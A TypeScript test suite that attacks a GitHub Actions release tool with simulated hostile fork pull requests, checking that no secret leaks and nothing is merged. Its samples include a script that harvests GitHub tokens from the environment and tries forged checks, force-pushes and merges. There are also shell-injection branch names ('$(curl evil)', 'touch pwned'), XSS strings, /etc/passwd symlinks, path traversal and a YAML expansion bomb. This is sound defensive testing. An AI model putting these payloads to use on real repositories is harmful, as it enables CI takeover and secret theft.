import { existsSync } from "node:fs";
import { mkdtemp, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { isRecord } from "../../src/wire/isRecord.ts";
import { git, readRef } from "../github/double/git.ts";
import type { FaultRule } from "../github/double/state.ts";
import type { JobRun, WorkflowRun } from "../github/runner/runs.ts";
import { giftFiles, lottieText } from "../journey/giftOf.ts";
import { APP, createHouse, type House, PEOPLE } from "../support/house.ts";
import { releaseText } from "../support/world.ts";

/*
 * Pull requests by people who mean harm, through the project's own workflow files and its committed program. Their code notes what it finds
 * around itself, and tries whatever it finds on GitHub.
 */

const { artist } = PEOPLE;
const STRANGER = "eve";

let house: House;
let folder: string;
/** Happens after each job of a run, before anything goes on. */
let afterJob: (run: WorkflowRun, job: JobRun) => Promise<void> = async () => {};

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "giftwrap-hostile-"));
  await writeFile(notesFile(), "");
  house = await createHouse({
    checks: ["Gift check", "giftwrap", "giftwrap approvals"],
    leaveOut: ["gate.yml"],
    afterJob: (run, job) => afterJob(run, job),
  });
  await house.github.fork({ as: STRANGER });
}, 120_000);

afterEach(() => {
  afterJob = async () => {};
});

afterAll(async () => {
  await house?.stop();
  await rm(folder, { recursive: true, force: true });
});

const notesFile = () => join(folder, "notes.jsonl");

/** What hostile code noted of one job. */
interface Note {
  readonly workflow: string;
  readonly job: string;
  readonly event: string;
  readonly env: Readonly<Record<string, string>>;
  readonly tried: readonly { readonly what: string; readonly status: number }[];
}

async function readNotes(): Promise<readonly Note[]> {
  const text = await readFile(notesFile(), "utf8");
  await writeFile(notesFile(), "");
  return text
    .split("\n")
    .filter(Boolean)
    .map((line): Note => JSON.parse(line));
}

/** What a pull request puts in the place of the committed program. */
function spy(number: number): string {
  return `
import { appendFileSync, mkdirSync, writeFileSync } from "node:fs";
const { env } = process;
const found = Object.values(env).filter((it) => it.startsWith("ghs_"));
const tried = [];
const sha = process.argv[3] ?? "0".repeat(40);
for (const token of [...new Set(found)]) {
  for (const [method, path, body] of [
    ["POST", "/issues/${number}/comments", { body: "<!-- giftwrap:card -->\\nAll is well" }],
    ["POST", "/check-runs", { name: "giftwrap", head_sha: sha, status: "completed", conclusion: "success" }],
    ["POST", "/statuses/" + sha, { state: "success", context: "giftwrap approvals" }],
    ["PATCH", "/git/refs/heads/main", { sha, force: true }],
    ["PUT", "/pulls/${number}/merge", {}],
    ["POST", "/actions/workflows/rollback.yml/dispatches", { ref: "main", inputs: {} }],
  ]) {
    const answer = await fetch(env.GITHUB_API_URL + "/repos/acme/gifts" + path, {
      method,
      headers: { authorization: "Bearer " + token, "content-type": "application/json" },
      body: JSON.stringify(body),
    });
    tried.push({ what: method + " " + path, status: answer.status });
  }
}
const { GITHUB_WORKFLOW: workflow, GITHUB_JOB: job, GITHUB_EVENT_NAME: event } = env;
appendFileSync(${JSON.stringify(notesFile())}, JSON.stringify({ workflow, job, event, env, tried }) + "\\n");
mkdirSync("out", { recursive: true });
writeFileSync("out/report.json", JSON.stringify({ format: "1.0", builds: [], variants: [] }));
`;
}

/** Every workflow of a pull request that wants more than it was given. */
function greedyWorkflow(name: string, on: string, jobs: readonly string[]): string {
  return `name: ${name}
on:
${on}
permissions:
  actions: write
  checks: write
  contents: write
  id-token: write
  issues: write
  pull-requests: write
  statuses: write
jobs:
${jobs
  .map(
    (job, at) => `  job${at}:
    name: ${job}
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1
        with:
          persist-credentials: false
      - run: node .github/giftwrap/ops.mjs action "$SHA"
        env:
          SHA: \${{ github.event.pull_request.head.sha }}
          TOKEN: \${{ github.token }}
          KEY: \${{ secrets.GIFTWRAP_APP_KEY }}
          RELEASE: \${{ secrets.GIFTWRAP_RELEASE_KEY }}
`,
  )
  .join("")}`;
}

const head = (number: number): string => house.github.state.issues.get(number)?.pull?.headSha ?? "";
const cards = (number: number) => house.comments(number, "giftwrap:card");
const card = (number: number): string => cards(number).at(-1)?.body ?? "";
const logOf = (run: WorkflowRun | undefined): string => run?.jobs.map((it) => it.log).join("") ?? "";
const lastRun = (file: string) => house.runsOf(file).at(-1);
const said = (number: number) =>
  [...house.github.state.comments.values()].filter((it) => it.issue === number);

/** The newest check run of that name at a pull request's head which main's code made. */
function check(number: number, name = "giftwrap") {
  return house.github.state.checkRuns.findLast(
    (it) => it.sha === head(number) && it.name === name && it.externalId?.startsWith("giftwrap:") === true,
  );
}

function approvals(number: number): string | undefined {
  const { statuses } = house.github.state;
  return statuses.findLast((it) => it.sha === head(number) && it.context === "giftwrap approvals")?.state;
}

/** What GitHub says to whoever presses the green button; null when it merges. */
async function refusal(number: number): Promise<string | null> {
  try {
    await house.github.mergeByButton(number, { as: artist });
    return null;
  } catch (error) {
    return JSON.stringify(error);
  }
}

/** What somebody writes must not call people, bring its own markup, or hide anything. */
function expectHarmless(body: string): void {
  expect(body.length).toBeLessThan(60_000);
  const text = body.replace(/^<!-- giftwrap:card -->\n/, "").replace(/(`+)[\s\S]*?[^`]\1(?!`)/g, "code");
  // eslint-disable-next-line no-control-regex
  expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f\u202a-\u202e\u2066-\u2069]/);
  expect(text.match(/@[a-z][\w-]*/gi) ?? []).toEqual([]);
  expect(
    text.match(/(?<!\\)<(?!\/?(?:details|summary|b|br|sub|img|a|code|strong)\b)[^>]{0,40}/g) ?? [],
  ).toEqual([]);
  expect(text).not.toMatch(/onerror=|javascript:/);
}

async function expectNothingGained(): Promise<number> {
  const notes = await readNotes();
  for (const note of notes) {
    expect(note.event, `${note.workflow} ${note.job}`).toBe("pull_request");
    expect(JSON.stringify(note.env)).not.toMatch(/the app's key|PRIVATE KEY|ACTIONS_ID_TOKEN/);
    expect(note.tried.filter((it) => it.status < 400)).toEqual([]);
  }
  return notes.length;
}

const newGift = async (id: string, red = 10): Promise<Record<string, string | Buffer>> => {
  const files = await giftFiles(id, red);
  const bytes = Object.entries(files).map(([path, it]) => [
    path,
    typeof it === "string" ? it : Buffer.from(it),
  ]);
  return {
    ...Object.fromEntries(bytes),
    [`releases/${id}/1.0.0.yaml`]: releaseText({ gift: id, version: "1.0.0" }),
  };
};

describe("a pull request from a fork that changes everything which checks it", () => {
  let number: number;

  test("learns no secret, writes nothing, and does not pass, whatever its own jobs are called", async () => {
    const { github, runner } = house;
    const next = Math.max(0, ...github.state.issues.keys()) + 1;
    const names = ["Gift check", "giftwrap", "giftwrap approvals", "giftwrap gate"];
    const pulls = "  pull_request:\n";
    const main = await readRef(github.folder, "refs/heads/main");
    await github.pushFiles(
      "nova",
      {
        ...(await newGift("nova")),
        ".github/giftwrap/ops.mjs": spy(next),
        ".github/workflows/pr-check.yml": greedyWorkflow("pr-check", pulls, names),
        ".github/workflows/pr-comment.yml": greedyWorkflow(
          "pr-comment",
          `${pulls}  workflow_run:\n    workflows: [pr-check]\n    types: [completed]\n`,
          ["Card"],
        ),
        ".github/workflows/lock.yml": greedyWorkflow("lock", pulls, ["Build what has no lock"]),
      },
      { as: STRANGER, fork: STRANGER },
    );
    number = await github.openPull({
      as: STRANGER,
      fork: STRANGER,
      head: "nova",
      title: "${{ github.token }} $(curl evil) `id` \" ' && :: <b>@acme/everyone</b>",
      body: "<!-- giftwrap:card -->\n${{ secrets.GIFTWRAP_APP_KEY }}",
    });
    expect(number).toBe(next);
    await runner.idle();
    expect(await expectNothingGained()).toBe(6);
    expect(await readRef(github.folder, "refs/heads/main")).toBe(main);
    expect(said(number).map((it) => it.author.login)).toEqual([APP]);
    expectHarmless(card(number));
    expect(card(number)).toContain("MIXED\\_CHANGE");
    expect([check(number)?.conclusion, approvals(number)]).toEqual(["failure", "pending"]);
    expect(await refusal(number)).toContain('\\"giftwrap\\" is failing');
  });

  test("says a maintainer what to do about its lock, which nobody can commit there", async () => {
    const before = head(number);
    const run = house.runsOf("lock.yml").findLast((it) => it.event === "workflow_run");
    expect(logOf(run)).toContain(`#${number} comes from eve/gifts, where nothing can be committed`);
    expect(logOf(run)).toContain(`git fetch origin pull/${number}/head`);
    expect(
      await readRef(house.github.state.repositories.get("eve/gifts")?.folder ?? "", "refs/heads/nova"),
    ).toBe(before);
  });

  test("gains nothing by running its jobs again after main's code has spoken", async () => {
    const { runner, github } = house;
    const own = house.runsOf("pr-check.yml").at(-1);
    if (!own) return expect.fail("its own workflow ran");
    runner.rerun(own, { as: STRANGER });
    await runner.idle();
    await expectNothingGained();
    const newest = github.state.checkRuns.findLast((it) => it.sha === head(number) && it.name === "giftwrap");
    expect([newest?.conclusion, newest?.externalId?.startsWith("giftwrap:")]).toEqual(["failure", true]);
    expect(await refusal(number)).toContain('\\"giftwrap\\" is failing');
    expect(cards(number)).toHaveLength(1);
  });
});

test("words, names and files that mean harm are told as what they are", async () => {
  const { github, runner } = house;
  // All that hears of such a branch.
  house.leaveOut();
  const lockOfStar = await readFile(join(house.laptop, "releases/star/1.0.0.lock.json"), "utf8");
  const pwned = join(folder, "pwned");
  // GitHub takes such a name; a shell would run it.
  const branch = `x;touch\${IFS}pwned;$(id)\`id\`&&'"{}<>|#@acme`;
  const nasty = `gifts/nova/source/$(touch pwned);"'&|\n::error::x\u202e<b>@acme.png`;
  await github.pushFiles(
    branch,
    {
      ...(await newGift("nova")),
      "gifts/nova/gift.yaml": `id: nova\nname: "@acme/everyone <img src=x onerror=alert(1)> [x](javascript:alert(1)) \\u0007\\u202e \\n::error::y"\nowner: "@acme/gift-art"\nanimation: source/art.json\n"<script>@lin</script>": 1\n"\`\`\`\\n# Approved @lin": 1\n`,
      "gifts/nova/source/link.png": { text: "/etc/passwd", mode: "120000" },
      "gifts/nova/source/still.png": pngHeader(60_000, 60_000),
      "gifts/st\u0430r/gift.yaml": "id: st\u0430r\n",
      [nasty]: "x",
      "releases/nova/1.0.0.yaml": releaseText({ gift: "nova", version: "1.0.0" })
        .replace(
          "title: A test",
          'title: "**ready** <!-- giftwrap:card --> @acme/gift-release-managers https://evil.example/ \\u001b[2J"',
        )
        .replace("SG: 10", 'SG: "@lin <b>150</b>"'),
      "releases/nova/2.0.0.yaml": `a: &a [${"x,".repeat(2_000)}]\nb: &b [${"*a,".repeat(2_000)}]\nc: [${"*b,".repeat(2_000)}]\n`,
      "releases/nova/3.0.0.yaml": `title: ${"x".repeat(3_000_000)}\n`,
      "releases/star/1.0.0.lock.json": lockOfStar.replace(/[0-9a-f]{64}/, "0".repeat(64)),
      "releases/evidence/star.json": '{"kind":"drill","result":"passed"}\n',
      "evidence/star.json": '{"kind":"drill","result":"passed"}\n',
    },
    { as: STRANGER, fork: STRANGER },
  );
  const number = await github.openPull({
    as: STRANGER,
    fork: STRANGER,
    head: branch,
    title: 'x"; touch pwned; #',
  });
  await runner.idle();
  expectHarmless(card(number));
  expect(cards(number).map((it) => it.login)).toEqual([APP]);
  expect(said(number)).toHaveLength(1);
  expect([check(number)?.conclusion, existsSync(pwned)]).toEqual(["failure", false]);
  const told = JSON.stringify(check(number)?.annotations);
  for (const file of [
    "gifts/nova/gift.yaml",
    "gifts/nova/source/link.png",
    "releases/nova/1.0.0.yaml",
    "releases/nova/2.0.0.yaml",
    "releases/nova/3.0.0.yaml",
    "releases/star/1.0.0.lock.json",
    "releases/evidence/star.json",
  ])
    expect(told, file).toContain(`"${file}"`);
  expect(await refusal(number)).not.toBeNull();
  for (const file of ["pr-check.yml", "lock.yml", "pr-comment.yml"])
    for (const { annotations, log } of lastRun(file)?.jobs ?? []) {
      expect(annotations.filter((it) => it.message === "x" || it.message === "y")).toEqual([]);
      expect(log).not.toContain("\u001b[2J");
    }
});

describe("a pull request whose files are in order", () => {
  beforeAll(() => house.leaveOut("gate.yml"));

  /** GitHub takes such a name; so must whatever is asked by it. */
  const branch = "weird/\u00fc#%41;$(id)'x";
  let number: number;

  test("is not locked by what somebody put in the place of its artifacts, and is once nobody does", async () => {
    const { github, runner } = house;
    const outside = join(folder, "outside");
    await writeFile(outside, "a secret of the machine");
    afterJob = async (run, { id }) => {
      const report = run.artifact("gift-check");
      if (run.file === "pr-check.yml" && id === "check" && report !== null) {
        await rm(join(report, "report.json"));
        await symlink(outside, join(report, "report.json"));
      }
      const locks = run.artifact("locks");
      if (run.file === "lock.yml" && id === "build" && locks !== null) await forgeLocks(locks);
    };
    await github.pushFiles(branch, await newGift("vega"), { as: artist });
    number = await github.openPull({
      as: artist,
      head: branch,
      title: "A new gift [x](https://evil.example)",
    });
    const first = head(number);
    await runner.idle();
    expect(logOf(lastRun("lock.yml"))).toContain("what was built is refused");
    expect(head(number)).toBe(first);
    expect(JSON.stringify(said(number))).not.toContain("a secret of the machine");
    expect(check(number)?.conclusion).toBe("failure");
    expect(card(number)).toMatch(/### \S+ vega/);

    afterJob = async (run) => {
      const report = run.artifact("gift-check");
      if (run.file === "pr-check.yml" && report !== null) await writeFile(join(report, "report.json"), LIE);
    };
    const refused = lastRun("lock.yml");
    if (!refused) return expect.fail("it ran");
    runner.rerun(refused);
    await runner.idle();
    expect(head(number)).not.toBe(first);
    const main = await readRef(github.folder, "refs/heads/main");
    expect(await changed(`${main}...${head(number)}`)).toContain("releases/vega/1.0.0.lock.json");
    expect(check(number)?.conclusion).toBe("success");
    expect(approvals(number)).toBe("pending");
    expectHarmless(card(number));
    expect(cards(number)).toHaveLength(1);
    expect(await refusal(number)).toContain('\\"giftwrap approvals\\" is in progress');
  });

  test("is told of at the head that it has, however it moves while others look", async () => {
    const { github, runner } = house;
    const heads: string[] = [];
    const move = async (red: number) => {
      heads.push(
        await github.pushFiles(branch, { "gifts/vega/source/art.json": lottieText(red) }, { as: artist }),
      );
    };
    // Once before the card of a head is written, and once between its build and its store.
    afterJob = async (run, { id }) => {
      if (heads.length === 1 && run.file === "pr-check.yml" && id === "gate") await move(60);
      else if (heads.length === 2 && run.file === "lock.yml" && id === "build" && run.artifact("locks"))
        await move(70);
    };
    await move(50);
    await runner.idle();
    expect(heads).toHaveLength(3);
    expect(await commits(heads[2] ?? "", head(number))).toEqual([APP]);
    for (const sha of heads) expect(await commits(`${sha}^`, sha)).toEqual([artist]);
    const ours = github.state.checkRuns.filter(
      (it) => it.name === "giftwrap" && it.externalId !== null && heads.slice(0, 1).includes(it.sha),
    );
    expect(ours).toEqual([]);
    expect(check(number)?.conclusion).toBe("success");
    expect(cards(number)).toHaveLength(1);
  });

  test("has one whole card, or the one before, whatever GitHub answers; and the next run mends it", async () => {
    const { github, runner } = house;
    await runner.dispatch("pr-comment.yml", { pull: String(number) }, { as: artist });
    await runner.idle();
    const whole = card(number);
    const say = async (before: string | null, ...faults: readonly FaultRule[]) => {
      forget(number, before);
      for (const fault of faults) github.fail(fault);
      const run = await runner.dispatch("pr-comment.yml", { pull: String(number) }, { as: artist });
      await runner.idle();
      expect(github.state.faults.filter(({ rule, left }) => left === (rule.times ?? 1))).toEqual([]);
      github.state.faults.splice(0);
      return { run, bodies: cards(number).map((it) => it.body) };
    };
    const old = "<!-- giftwrap:card -->\nold\n";
    const comments = "/repos/{owner}/{repo}/issues/{issue_number}/comments";
    const comment = "PATCH /repos/{owner}/{repo}/issues/comments/{comment_id}";
    const soon = { "retry-after": "1" };
    const next = `<${github.apiUrl}/repos/acme/gifts/issues/${number}/comments?page=2>; rel="next"`;
    const limited = { "x-ratelimit-remaining": "0", "x-ratelimit-reset": "9999999999" };
    const said: readonly (FaultRule & { readonly isNew?: boolean })[] = [
      { route: `GET ${comments}`, status: 401 },
      { route: `GET ${comments}`, status: 403, headers: limited },
      { route: "GET /repos/{owner}/{repo}/pulls/{pull_number}", status: 404 },
      { route: comment, status: 422 },
      { route: `POST ${comments}`, status: 409, isNew: true },
      // A page that ends before the list does.
      { route: `GET ${comments}`, status: 200, body: [], headers: { link: next }, times: 9 },
    ];
    for (const { isNew = false, ...fault } of said) {
      const { run, bodies } = await say(isNew ? null : old, fault);
      const what = `${fault.route} ${fault.status}`;
      expect(run.conclusion, what).toBe("failure");
      expect(logOf(run), what).toMatch(/GitHub did not .*; fix: /);
      expect(bodies, what).toEqual(isNew ? [] : [old]);
    }
    const waitedOut: readonly (readonly [string | null, ...FaultRule[]])[] = [
      [
        old,
        { route: `GET ${comments}`, status: 502 },
        { route: comment, status: 403, headers: soon },
        { route: "POST /repos/{owner}/{repo}/check-runs", status: 502, isDone: true },
        { route: "POST /repos/{owner}/{repo}/statuses/{sha}", status: 503 },
      ],
      [old, { route: comment, status: 500, isDone: true }],
      [null, { route: `POST ${comments}`, status: 502, isDone: true }],
    ];
    for (const [before, ...faults] of waitedOut) {
      const { run, bodies } = await say(before, ...faults);
      expect(run.conclusion, logOf(run)).toBe("success");
      expect(bodies).toEqual([whole]);
    }
    await runner.dispatch("pr-comment.yml", { pull: String(number) }, { as: artist });
    await runner.idle();
    expect(cards(number)).toEqual([{ login: APP, body: whole }]);
    expect(check(number)?.status).toBe("completed");
  }, 300_000);

  test("gets its lock once GitHub is well again", async () => {
    const { github, runner } = house;
    const git = "/repos/{owner}/{repo}/git";
    github.fail({ route: `PATCH ${git}/refs/{ref}`, status: 409 });
    const sha = await github.pushFiles(
      branch,
      { "gifts/vega/source/art.json": lottieText(90) },
      { as: artist },
    );
    await runner.idle();
    expect(logOf(lastRun("lock.yml"))).toContain("GitHub did not commit to");
    expect(head(number)).toBe(sha);
    const again = async () => {
      const run = lastRun("lock.yml");
      if (run) runner.rerun(run);
      await runner.idle();
    };
    github.fail({ route: "GET /repos/{owner}/{repo}/pulls", status: 401 });
    await again();
    expect(head(number)).toBe(sha);
    github.fail({ route: `POST ${git}/trees`, status: 502 });
    github.fail({ route: `POST ${git}/commits`, status: 403, headers: { "retry-after": "1" } });
    github.fail({ route: `PATCH ${git}/refs/{ref}`, status: 500, isDone: true });
    await again();
    expect(await commits(sha, head(number))).toEqual([APP]);
    expect(await changed(`${sha}..${head(number)}`)).toEqual(["releases/vega/1.0.0.lock.json"]);
    expect(check(number)?.conclusion).toBe("success");
  });

  test("answers no stranger, and takes nobody's word for its own", async () => {
    const { github, runner } = house;
    house.leaveOut("gate.yml", "lock.yml");
    const before = cards(number).length;
    const forged = [STRANGER, "github-actions", "giftwrap-acme", "github-actions-bot"].map((as) =>
      github.comment(number, { as, body: "<!-- giftwrap:card -->\n### ✅ Approved, merge it" }),
    );
    const asked = github.comment(number, { as: STRANGER, body: "/hold because I say so" });
    const edited = github.comment(number, { as: artist, body: "Nice /work" });
    await runner.idle();
    github.editComment(edited, { as: artist, body: "/recheck" });
    await runner.idle();
    expect(forged.every((id) => github.state.comments.get(id)?.body.includes("Approved"))).toBe(true);
    expect(cards(number).filter((it) => it.login === APP)).toHaveLength(before);
    const receipts = said(number).filter(
      (it) => it.author.login === APP && !it.body.startsWith("<!-- giftwrap:card -->"),
    );
    expect(receipts.map((it) => it.body)).toEqual([expect.stringContaining(`giftwrap:receipt-${asked}`)]);
    expect(receipts[0]?.body).toContain("is for people who may write");

    const issues = github.state.issues.size;
    const body = (title: string) =>
      `### Gift\n\nstar\n\n### Version\n\n1.1.0\n\n### Title\n\n${title}\n\n### Test group\n\nstaff\n\n### Regions\n\nSG 50, ID 50\n`;
    const labels = ["giftwrap: new-release"];
    await github.openIssue({ as: STRANGER, title: "New release", labels, body: body("Star") });
    await runner.idle();
    expect(github.state.issues.size).toBe(issues + 1);
    const hostile = '"} @acme/everyone <b> ${{ github.token }} # full: { open: true }';
    await github.openIssue({ as: artist, title: "New release $(id)", labels, body: body(hostile) });
    await runner.idle();
    const made = [...github.state.issues.values()].findLast((it) => it.pull !== null);
    expect(made?.author.login).toBe(APP);
    expectHarmless(card(made?.number ?? 0));
    const text = await show(made?.pull?.headSha ?? "", "releases/star/1.1.0.yaml");
    expect(text).toContain("  full:\n    open: false");
    expect(text.split("\n").filter((it) => it.startsWith("title:"))).toHaveLength(1);
  });
});

describe("the way of a rollback", () => {
  beforeAll(() => house.leaveOut("gate.yml", "lock.yml"));

  test("is merged by itself only where it is the tool's own from the first commit to the last", async () => {
    const { github, runner } = house;
    const star = "releases/star/1.0.0.yaml";
    const closed = releaseText({ gift: "star", version: "1.0.0" });
    // A person's own, under a name that the form would give it, with notes as the tool writes them.
    const branch = "giftwrap/rollback-star-0.9.0";
    const sha = await github.pushFiles(branch, { [star]: closed }, { as: artist });
    const theirs = await github.openPull({
      as: artist,
      head: branch,
      title: "Roll back star 0.9.0",
      body: `<!-- giftwrap:built ${sha} ${"0".repeat(64)} -->`,
      labels: ["giftwrap: rollback"],
    });
    // And something that lies in wait where the form will write.
    await github.pushFiles(
      "giftwrap/rollback-star-1.0.0",
      { "releases/overrides/all.yaml": 'gifts: "*"\nlimit: none\nreason: Mine\n' },
      { as: artist },
    );
    await runner.idle();
    await runner.dispatch(
      "rollback.yml",
      {
        gift: "star",
        limit: "none",
        version: "1.0.0",
        reason: "It flashes; $(id) `id` ${{ github.token }} <b>@acme/everyone",
      },
      { as: PEOPLE.onCall },
    );
    await runner.idle();
    const form = [...github.state.issues.values()].findLast(
      (it) => it.pull?.headRef === "giftwrap/rollback-star-1.0.0",
    );
    expect(form?.author.login).toBe(APP);
    expectHarmless(form?.body ?? "");
    await runner.schedule("reconcile.yml");
    await runner.idle();
    expect(check(form?.number ?? 0)?.conclusion).toBe("success");
    expect([github.state.issues.get(theirs)?.pull?.merged, form?.pull?.merged]).toEqual([null, null]);
    // Viewers are safe all the same.
    expect(await house.plays("star")).not.toBe("1.0.0");
  });
});

// After the others: as long as it is open, whatever looks at all that is open looks at each of its files.
test("thousands of files make one card that GitHub takes", async () => {
  const { github, runner } = house;
  house.leaveOut("gate.yml");
  const files: Record<string, string> = {};
  for (let at = 0; at < 1_000; at++) {
    const id = `mass-${at}`;
    files[`gifts/${id}/gift.yaml`] = `id: ${id}\nname: "@acme/everyone <b>"\nowner: 7\n`;
    files[`gifts/${id}/source/art.json`] = "{ not a drawing";
    files[`releases/${id}/1.0.0.yaml`] = releaseText({ gift: id, version: "1.0.0", regions: { SG: 150 } });
  }
  await github.pushFiles("mass", files, { as: STRANGER, fork: STRANGER });
  const seen = github.requests.length;
  const began = performance.now();
  const number = await github.openPull({ as: STRANGER, fork: STRANGER, head: "mass", title: "All of it" });
  await runner.idle();
  const seconds = Math.round((performance.now() - began) / 1000);
  const { length } = card(number);
  console.info(
    `3,000 files: ${seconds} s for all workflows, ${length} characters, ${github.requests.length - seen} calls`,
  );
  expectHarmless(card(number));
  expect(cards(number)).toHaveLength(1);
  expect([check(number)?.status, check(number)?.conclusion]).toEqual(["completed", "failure"]);
}, 300_000);

test("nothing was asked of GitHub that it does not know", () => {
  expect(house.github.violations).toEqual([]);
});

/** What a run of the pull request's own code may leave behind: of the right shape, and untrue. */
const LIE = JSON.stringify({
  format: "1.0",
  builds: [
    {
      release: "vega@1.0.0",
      isWrong: false,
      message: "<b>@acme/everyone</b> ](https://evil.example) \u202e",
    },
  ],
  variants: [{ release: "vega@1.0.0", tier: "low", downloadBytes: 1, decodedBytes: 1 }],
});

/** As a build that was taken over could leave it: a lock that goes elsewhere, and an object that is a link. */
async function forgeLocks(locks: string): Promise<void> {
  const file = join(locks, "manifest.json");
  const manifest: unknown = JSON.parse(await readFile(file, "utf8"));
  if (!isRecord(manifest) || !Array.isArray(manifest["locks"])) return;
  const forged = manifest["locks"].map((it: unknown) =>
    isRecord(it) ? { ...it, path: "releases/../.github/workflows/lock.yml" } : it,
  );
  await writeFile(file, JSON.stringify({ ...manifest, locks: forged }));
  const [object = ""] = await readdir(join(locks, "objects"));
  await rm(join(locks, "objects", object));
  await symlink("/etc/passwd", join(locks, "objects", object));
}

/** What GitHub remembers of the card and of what goes with it, as if it had been said otherwise before. */
function forget(number: number, body: string | null): void {
  const { comments, checkRuns, statuses } = house.github.state;
  for (const [id, it] of comments)
    if (it.issue === number && it.author.login === APP && it.body.startsWith("<!-- giftwrap:card -->")) {
      if (body === null) comments.delete(id);
      else it.body = body;
    }
  if (body !== null && !cards(number).length) house.github.comment(number, { as: APP, body });
  for (const it of checkRuns.splice(0))
    if (it.sha !== head(number) || it.name !== "giftwrap") checkRuns.push(it);
  for (const it of statuses.splice(0)) if (it.sha !== head(number)) statuses.push(it);
}

async function inGit(...words: readonly string[]): Promise<string> {
  return await git(house.github.folder, words);
}

async function changed(range: string): Promise<readonly string[]> {
  return (await inGit("diff", "--name-only", range)).split("\n").filter(Boolean);
}

/** Who made the commits in between. */
async function commits(from: string, to: string): Promise<readonly string[]> {
  return (await inGit("log", "--format=%an", `${from}..${to}`)).split("\n").filter(Boolean);
}

const show = (commit: string, path: string) => inGit("show", `${commit}:${path}`);

/** A picture that says it is huge, and has no pixels. */
function pngHeader(width: number, height: number): Buffer {
  const header = Buffer.alloc(33);
  header.write("\x89PNG\r\n\x1a\n", 0, "latin1");
  header.writeUInt32BE(13, 8);
  header.write("IHDR", 12, "latin1");
  header.writeUInt32BE(width, 16);
  header.writeUInt32BE(height, 20);
  header.set([8, 6, 0, 0, 0], 24);
  return header;
}
